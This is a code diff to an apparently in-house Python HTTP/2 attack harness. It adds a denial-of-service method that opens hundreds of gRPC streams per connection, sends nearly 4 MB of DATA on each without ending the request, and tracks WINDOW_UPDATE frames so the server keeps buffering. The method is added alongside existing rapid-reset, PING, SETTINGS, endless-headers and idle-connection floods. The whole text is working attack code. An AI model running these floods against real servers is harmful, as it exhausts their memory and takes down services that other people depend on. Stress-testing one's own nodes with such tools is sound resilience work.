@@ -20,10 +20,12 @@ from frames import (
     END_HEADERS,
     END_STREAM,
     HEADERS,
+    MAX_FRAME,
     NEWEST_HEADER,
     PING,
     RST_STREAM,
     SETTINGS,
+    WINDOW_UPDATE,
     Connection,
     client_context,
     frame,
@@ -40,6 +42,9 @@ BATCH = 50
 CONNECTIONS = 2_000
 IDLE = 500
 """Connections without TLS; select takes 1 024 at most."""
+
+UNFINISHED = 900
+"""Calls that are open at once, of those whose requests do not end."""
 
 RATE = 1_000
 """Streams a second of the attack by open streams."""
@@ -194,6 +199,41 @@ class Attack:
 
         return self._flood(until, batch, 1e9)
 
+    def unfinished_requests(self, until: float) -> int:
+        """Calls whose requests of 4 MB lack the last byte: a server keeps what it has of each."""
+        size = 4 * 1024 * 1024 - 64
+        parts = [struct.pack(">BI", 0, size) + b"x" * (MAX_FRAME - 5)]
+        parts += [b"x" * MAX_FRAME] * (size // MAX_FRAME - 1)
+        sent = 0
+        while time.monotonic() < until:
+            with suppress(OSError):
+                connection = self._connect()
+                self._held.append(connection)
+                connection.socket.settimeout(0.1)
+                waiting: dict[int, tuple[int, int]] = {}  # parts sent, window of the stream
+                while time.monotonic() < until:
+                    if len(waiting) < UNFINISHED:
+                        waiting[connection.open(path("Echo"))] = 0, 65_535
+                    for stream, (number, window) in list(waiting.items()):
+                        while (
+                            number < len(parts)
+                            and window >= MAX_FRAME
+                            and connection.window >= MAX_FRAME
+                        ):
+                            connection.send(frame(DATA, stream, parts[number]))
+                            connection.window -= MAX_FRAME
+                            number, window, sent = number + 1, window - MAX_FRAME, sent + 1
+                        waiting[stream] = number, window
+                    while select.select([connection.socket], [], [], 0)[0]:
+                        for got in connection.receive():
+                            if got.kind == WINDOW_UPDATE and got.stream in waiting:
+                                number, window = waiting[got.stream]
+                                more = int.from_bytes(got.payload, "big")
+                                waiting[got.stream] = number, window + more
+                            elif got.ends_stream or got.kind == RST_STREAM:
+                                waiting.pop(got.stream, None)
+        return sent
+
     def idle(self, until: float) -> int:
         """Opens TCP connections without TLS, again when the node closes them."""
         host, port = self._address.rsplit(":", 1)
@@ -226,6 +266,7 @@ KINDS: dict[str, Callable[[Attack, float], int]] = {
     "streams without a request": Attack.open_streams,
     "rapid reset": Attack.reset_streams,
     "rapid reset of requests": Attack.reset_requests,
+    "requests without an end": Attack.unfinished_requests,
     "SETTINGS": Attack.settings,
     "PING": Attack.pings,
     "headers without an end": Attack.endless_headers,
